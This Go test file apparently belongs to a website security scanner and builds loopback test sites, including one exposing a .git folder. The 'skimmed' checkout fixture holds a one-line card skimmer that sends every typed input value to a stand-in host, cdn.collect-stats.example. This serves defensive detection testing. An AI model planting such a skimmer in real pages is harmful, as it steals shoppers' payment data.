package command

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
	"github.com/urfave/cli/v2"
)

// TestMain is the program itself when it is started under its name.
func TestMain(m *testing.M) {
	cli.HelpFlag, cli.VersionFlag = &sharedFlag{cli.HelpFlag.(*cli.BoolFlag)}, &sharedFlag{cli.VersionFlag.(*cli.BoolFlag)}
	testscript.Main(m, map[string]func(){
		"sotomi":       func() { os.Exit(Main(os.Args, os.Stdin, os.Stdout, os.Stderr)) },      //nolint:forbidigo // a process of its own
		"hasty-sotomi": func() { os.Exit(hastyMain(os.Args, os.Stdin, os.Stdout, os.Stderr)) }, //nolint:forbidigo // a process of its own
	})
}

// sharedFlag is a flag that the library has once for the whole process and writes to at each invocation: here several run at
// once, each with a copy.
type sharedFlag struct{ *cli.BoolFlag }

// Apply leaves the shared flag as it is.
func (f *sharedFlag) Apply(set *flag.FlagSet) error {
	own := *f.BoolFlag
	return own.Apply(set)
}

// hastyLease is how long a worker of the tests with kills may be silent, so that another takes over soon.
const hastyLease = 3 * time.Second

// hastyMain is the program with short leases.
func hastyMain(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
	return (&environment{stdin: stdin, stderr: stderr, lease: hastyLease}).main(context.Background(), args, stdout)
}

// TestScript runs what users type, as they type it. Commands of its own:
//
//	site NAME               starts a site on loopback; $NAME is its address. weak publishes its .git folder, safe nothing,
//	                        stuck never answers for its .git folder, echo publishes one that
//	                        repeats the header X-Key, member greets those who send Cookie: sid=a or b, closed is an address
//	                        where nobody listens, login asks everybody to log in, sso sends everybody to another host
//	port NAME [GREETING]    opens a port on loopback that greets; $NAME is its address; without a greeting nobody listens there
//	await NAME              waits until the stuck site NAME is asked for what it never answers
//	[!] asked NAME          NAME got a request, or none
//	sent NAME HEADER VALUE  the last request to NAME had this header
//	asked NAME PATH N       NAME got N requests for PATH
//	status N PROGRAM ARG... runs a program that must end with exit status N
//	receiver NAME           starts a receiver of messages on loopback; $NAME is its address
//	[!] received NAME TEXT  NAME was sent a message with TEXT in its body or header, or none
//	[mounts]                holds where a script may mount a file system of its own
//	subst FILE              puts the values of $NAME into a file; ${NAME} stays
func TestScript(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir:                 "testdata/script",
		RequireExplicitExec: true,
		RequireUniqueNames:  true,
		Setup: func(env *testscript.Env) error {
			env.Values[sitesKey{}] = map[string]*scriptSite{}
			return nil
		},
		Cmds: map[string]func(ts *testscript.TestScript, neg bool, args []string){
			"sent": sentScriptSite, "site": startScriptSite, "port": startScriptPort, "asked": askedScriptSite, "await": awaitScriptSite, "status": exitStatus,
			"receiver": startReceiver, "received": receivedMessage, "subst": substitute,
		},
		Condition: func(name string) (bool, error) {
			if name != "mounts" {
				return false, fmt.Errorf("no condition %q", name)
			}
			return exec.CommandContext(t.Context(), "unshare", "-rm", "mount", "-t", "tmpfs", "none", os.TempDir()).Run() == nil, nil
		},
	})
}

type sitesKey struct{}

// scriptSite counts what it is asked, by path.
type scriptSite struct {
	mu    sync.Mutex
	asked map[string]int
	shop  http.Handler
	last  http.Header // of the last request
	echo  bool

	member bool
	stuck  chan struct{} // closed at the first request that is never answered; nil where all are
	once   sync.Once
}

func (s *scriptSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.asked[r.URL.Path]++
	s.last = r.Header.Clone()
	s.mu.Unlock()
	if cookie, err := r.Cookie("sid"); s.member && err == nil && strings.HasPrefix(r.URL.Path, "/mypage") {
		w.Header().Set("Cache-Control", "private, no-store")
		fmt.Fprintf(w, "<html><body><h1>My page</h1><p>%s</p></body></html>", members[cookie.Value])
		return
	}
	if s.stuck != nil && r.URL.Path == "/.git/HEAD" {
		s.once.Do(func() { close(s.stuck) })
		<-r.Context().Done()
		return
	}
	if s.echo && r.URL.Path == "/.git/HEAD" {
		w.Header().Set("X-Echo", r.Header.Get("X-Key"))
		fmt.Fprintf(w, "ref: refs/heads/%s\n", r.Header.Get("X-Key"))
		return
	}
	s.shop.ServeHTTP(w, r)
}

var scriptFiles = map[string]map[string]string{
	"weak": {"/.git/HEAD": "ref: refs/heads/main\n", "/.git/config": "[core]\n\tbare = false\n"},
	"safe": {}, "stuck": {}, "echo": {}, "member": {}, "login": {}, "sso": {}, "checkout": {}, "skimmed": {}, "files": {},
}

// checkoutShop has a page where people pay, with more in its head, and a script.
func checkoutShop(more, script string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/checkout":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, `<html><head><title>Checkout</title><script src="/assets/app-3f2a9c1b.js"></script>%s</head><body><form method="post" action="/pay"><input name="card_number" autocomplete="cc-number"></form></body></html>`, more)
		case "/assets/app-3f2a9c1b.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, script)
		default:
			demoShop(nil).ServeHTTP(w, r)
		}
	})
}

// scriptHandlers serve the sites that are no shops.
var scriptHandlers = map[string]http.Handler{
	"login": http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("WWW-Authenticate", `Basic realm="members"`)
		http.Error(w, "Unauthorized", http.StatusUnauthorized)
	}),
	"checkout": checkoutShop("", "var app = 1;"),
	"skimmed": checkoutShop(`<script src="https://cdn.collect-stats.example/a.js"></script>`,
		`addEventListener("input", function (e) { new Image().src = "https://cdn.collect-stats.example/i?" + e.target.value; });`),
	"sso": http.RedirectHandler("https://sso.example/login", http.StatusFound),
}

// members are what a member site shows by session.
var members = map[string]string{"a": "Alice Aoki, alice.aoki@shop.example, 4811223344", "b": "Bob Baba, bob.baba@shop.example, 9077665544"}

func scriptSites(ts *testscript.TestScript) map[string]*scriptSite {
	return ts.Value(sitesKey{}).(map[string]*scriptSite)
}

func startScriptSite(ts *testscript.TestScript, _ bool, args []string) {
	if len(args) != 1 {
		ts.Fatalf("usage: site weak|safe|stuck|echo|member|closed|login|sso|checkout|skimmed|files")
	}
	name := args[0]
	if name == "closed" {
		ts.Setenv(name, closedSite(ts))
		return
	}
	files, ok := scriptFiles[name]
	if !ok {
		ts.Fatalf("there is no site %q", name)
	}
	site := &scriptSite{asked: map[string]int{}, shop: demoShop(files), echo: name == "echo", member: name == "member"}
	if handler, ok := scriptHandlers[name]; ok {
		site.shop = handler
	}
	if name == "files" { // a script changes them
		site.shop = http.FileServer(http.Dir(ts.MkAbs("www")))
	}
	if name == "stuck" {
		site.stuck = make(chan struct{})
	}
	server := httptest.NewServer(site)
	ts.Defer(func() {
		server.CloseClientConnections()
		server.Close()
	})
	scriptSites(ts)[name] = site
	ts.Setenv(name, server.URL)
	ts.Setenv(name+"_at", server.Listener.Addr().String())
}

// closedSite is an address that refuses connections for as long as the script runs: the near end of a connection.
func closedSite(ts *testscript.TestScript) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	ts.Check(err)
	near, err := net.Dial("tcp", l.Addr().String())
	ts.Check(err)
	far, err := l.Accept()
	ts.Check(err)
	ts.Defer(func() {
		ts.Check(errors.Join(near.Close(), far.Close(), l.Close()))
	})
	return "http://" + near.LocalAddr().String()
}

func askedScriptSite(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 1 && len(args) != 3 || len(args) == 3 && neg {
		ts.Fatalf("usage: asked NAME [PATH N]")
	}
	site, ok := scriptSites(ts)[args[0]]
	if !ok {
		ts.Fatalf("there is no site %q", args[0])
	}
	site.mu.Lock()
	defer site.mu.Unlock()
	switch {
	case len(args) == 3:
		want, err := strconv.Atoi(args[2])
		ts.Check(err)
		if got := site.asked[args[1]]; got != want {
			ts.Fatalf("%s was asked for %s %d times, want %d", args[0], args[1], got, want)
		}
	case neg && len(site.asked) > 0:
		ts.Fatalf("%s was asked for %v", args[0], site.asked)
	case !neg && len(site.asked) == 0:
		ts.Fatalf("%s was asked for nothing", args[0])
	}
}

func sentScriptSite(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 3 || scriptSites(ts)[args[0]] == nil {
		ts.Fatalf("usage: sent NAME HEADER VALUE")
	}
	site := scriptSites(ts)[args[0]]
	site.mu.Lock()
	defer site.mu.Unlock()
	if got := strings.Join(site.last.Values(args[1]), " | "); got != args[2] {
		ts.Fatalf("%s: %s is %q, want %q", args[0], args[1], got, args[2])
	}
}

func awaitScriptSite(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 1 || scriptSites(ts)[args[0]] == nil || scriptSites(ts)[args[0]].stuck == nil {
		ts.Fatalf("usage: await NAME, of a stuck site")
	}
	<-scriptSites(ts)[args[0]].stuck
}

func exitStatus(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: status N PROGRAM ARG...")
	}
	want, err := strconv.Atoi(args[0])
	ts.Check(err)
	got := 0
	var exit *exec.ExitError
	switch err := ts.Exec(args[1], args[2:]...); {
	case errors.As(err, &exit):
		got = exit.ExitCode()
	case err != nil:
		ts.Fatalf("%v", err)
	}
	if got != want {
		ts.Fatalf("%s ended with status %d, want %d", strings.Join(args[1:], " "), got, want)
	}
}
